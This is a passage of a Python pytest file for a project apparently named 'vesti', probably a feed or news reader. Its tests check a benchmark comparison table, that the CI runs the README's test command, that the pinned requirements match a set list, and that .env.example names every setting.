    new = [{"desk /": {"median": 3.0, "p95": 4.0}, "search": {"median": 30.0, "p95": 60.0}},
           {"desk /": {"median": 2.0, "p95": 9.0}, "search": {"median": 10.0, "p95": 12.0}},
           {"desk /": {"median": 5.0, "p95": 6.0}, "search": {"median": 8.0, "p95": 9.0}}]
    old = [{"desk /": {"median": 1.0, "p95": 1.5}}, {"desk /": {"median": 2.0, "p95": 2.5}},
           {"desk /": {"median": 4.0, "p95": 5.0}}]
    bench_web.comparison_table(cases, new, old, "old/vesti.py")
    lines = {line[:26].strip(): line[26:].split() for line in capsys.readouterr().out.splitlines()}
    assert lines["desk /"][:5] == ["2.0", "3.0", "1.0", "2.0", "1.50"]
    assert lines["desk /"][-1] == "PASS"
    assert lines["search"][:3] == ["8.0", "10.0", "n/a"]
    assert " ".join(lines["search"]).endswith("MISS (p95 60.0 >= 50)")   # one round's p95


def test_ci_runs_the_readme_test_command():
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    commands = re.findall(r"```sh\n(.+?)\n```", readme)
    assert commands[0].endswith("python vesti.py run")
    assert "pytest" in commands[1]
    assert commands[1] in (ROOT / ".ci" / "run").read_text(encoding="utf-8")


def test_requirements_are_pinned_and_name_what_the_contract_needs():
    lines = [line.split("#")[0].strip() for line in
             (ROOT / "requirements.txt").read_text().splitlines()]
    pins = dict(line.split("==") for line in lines if line)
    assert {name.lower() for name in pins} == {"feedparser", "chardet", "trafilatura",
                                               "lxml_html_clean", "telethon", "pyyaml",
                                               # stems, for learning (the README says why)
                                               "snowballstemmer", "pystemmer"}


def test_env_example_names_every_setting():
    example = (ROOT / ".env.example").read_text(encoding="utf-8")
    for name, *_ in vesti.SETTINGS:
        assert f"#{name}=" in example
